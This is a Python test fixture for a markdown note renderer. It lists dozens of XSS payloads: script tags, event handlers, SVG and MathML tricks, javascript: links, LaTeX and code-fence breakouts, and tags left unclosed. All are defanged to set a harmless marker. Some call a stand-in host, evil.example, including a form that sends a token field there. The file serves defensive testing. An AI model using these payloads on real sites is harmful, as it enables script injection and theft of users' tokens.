"""Texts that would run a script in a page that shows them carelessly.

They are harmless: each says its number with `mark`, and a test sees whether any was said. `MARK` in a
payload stands for `document.documentElement.dataset.ran='NUMBER'`.
"""

SCRIPTS = (
    "<script>MARK</script>",
    "<ScRiPt>MARK</sCrIpT>",
    "<script/x>MARK</script>",
    "<script src=\"data:text/javascript,MARK\"></script>",
    "<script type=module>MARK</script>",
    "<scr<script></script>ipt>MARK</scr<script></script>ipt>",
    "<noscript><p title=\"</noscript><img src=x onerror=MARK>\"></noscript>",
    "<template><script>MARK</script></template>",
)  # fmt: skip # a table
HANDLERS = (
    '<img src=x onerror="MARK">',
    "<img src=x onerror=MARK//",
    '<img src=x ONERROR="MARK">',
    '<img src="x` `<script>MARK</script>"` `>',
    '<p onclick="MARK" onmouseover="MARK">한글</p>',
    '<details open ontoggle="MARK"><summary>s</summary>d</details>',
    '<video autoplay onloadstart="MARK" src=x></video>',
    '<audio src=x onerror="MARK"></audio>',
    '<video><source onerror="MARK"></video>',
    '<input autofocus onfocus="MARK">',
    '<select autofocus onfocus="MARK"></select>',
    '<marquee onstart="MARK">m</marquee>',
    '<div style="animation-name:x" onanimationstart="MARK">a</div>',
    '<body onload="MARK">',
    '<a href="#" onfocus="MARK" autofocus tabindex=1>f</a>',
    '| a | b |\n| - | - |\n| <img src=x onerror="MARK"> | 2 |',
    '- [ ] <img src=x onerror="MARK">',
    '> [!note] <img src=x onerror="MARK">\n> b',
    '[^1]\n\n[^1]: <img src=x onerror="MARK">',
    '# <img src=x onerror="MARK">',
)  # fmt: skip # a table
DRAWINGS = (
    '<svg onload="MARK"></svg>',
    "<svg><script>MARK</script></svg>",
    '<svg><animate onbegin="MARK" attributeName=x dur=1s></svg>',
    '<svg><a xlink:href="javascript:MARK"><text y=20>svg</text></a></svg>',
    '<svg><foreignObject><img src=x onerror="MARK"></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>MARK</script></svg>#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=MARK></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:MARK\">m</math>",
    "<svg><style><img src=x onerror=MARK></style></svg>",
)  # fmt: skip # a table
FRAMES = (
    '<iframe src="javascript:MARK"></iframe>',
    '<iframe srcdoc="<script>parent.MARK</script>"></iframe>',
    '<object data="javascript:MARK"></object>',
    '<embed src="javascript:MARK">',
    '<form action="javascript:MARK"><button>press</button></form>',
    '<form id=leak action="http://evil.example/"><input name=token></form><button form=leak>press</button>',
    '<button formaction="javascript:MARK">press</button>',
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:MARK">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    "<style>@import url(http://evil.example/y.css); body{display:none}</style>",
    '<div style="position:fixed;inset:0;background:url(http://evil.example/z.png)">over all</div>',
    '<img src="http://evil.example/{number}.png" srcset="http://evil.example/s.png 2x">',
)  # fmt: skip # a table
ADDRESSES = (
    "[link](javascript:MARK)",
    "[link](JaVaScRiPt:MARK)",
    "[link](java\tscript:MARK)",
    "[link](&#106;avascript:MARK)",
    "[link](javascript&colon;MARK)",
    "[link](data:text/html,<script>MARK</script>)",
    "[link](vbscript:MARK)",
    "[link]( \x01javascript:MARK)",
    "<javascript:MARK>",
    '<a href="javascript:MARK">link</a>',
    '<a href=" javascript:MARK">link</a>',
    '<a href="jav&#x0A;ascript:MARK">link</a>',
    "![image](javascript:MARK)",
    '![image](x.png "\\" onerror=\\"MARK")',
    '[link](x "\\" onclick=\\"MARK")',
    "[ref]\n\n[ref]: javascript:MARK",
    '[[nobody" onclick="MARK|alias]]',
    '[[x|<img src=x onerror="MARK">]]',
    '![[x.png" onerror="MARK]]',
)  # fmt: skip # a table
FORMULAS = (
    r"$\href{javascript:MARK}{x}$",
    r"$\url{javascript:MARK}$",
    r"$\htmlStyle{position:fixed;inset:0}{x}$",
    r"$\htmlData{onclick=MARK}{x}$",
    r"$\includegraphics{http://evil.example/k.png}$",
    '$x" onmouseover="MARK$',
    '$<img src=x onerror="MARK">$',
    "$$</span><script>MARK</script>$$",
    '```math\n</pre><img src=x onerror="MARK">\n```',
    '```"onload="MARK\ncode\n```',
    "```python <img src=x onerror=MARK>\n</code></pre><script>MARK</script>\n```",
    "`</code><script>MARK</script>`",
)  # fmt: skip # a table
UNCLOSED = (
    "<textarea>", "<title>", "<plaintext>", "<!--", "<xmp>", "<noembed>", "<style>", "<script>", "<select><option>", "<table><tr><td>",
    "</article></main></body></html><script>MARK</script>", "<svg>", "<math><annotation-xml encoding=text/html>", "<![CDATA[",
)  # fmt: skip # a table
"""What could swallow the rest of a page, or close what stands around the note."""

PAYLOADS = (*SCRIPTS, *HANDLERS, *DRAWINGS, *FRAMES, *ADDRESSES, *FORMULAS)


def numbered(payload: str, number: int) -> str:
    """Return a payload that says its number where it runs."""
    mark = f"document.documentElement.dataset.ran='{number}'"
    return payload.replace("MARK", mark).replace("{number}", str(number))


def note(payloads: tuple[str, ...]) -> str:
    """Return a note of payloads, each in a section of its own, with a last line."""
    sections = (
        f"## 절 {number}\n\n{numbered(payload, number)}\n"
        for number, payload in enumerate(payloads)
    )
    return "\n".join(sections) + "\n## 끝\n\n마지막 줄\n"
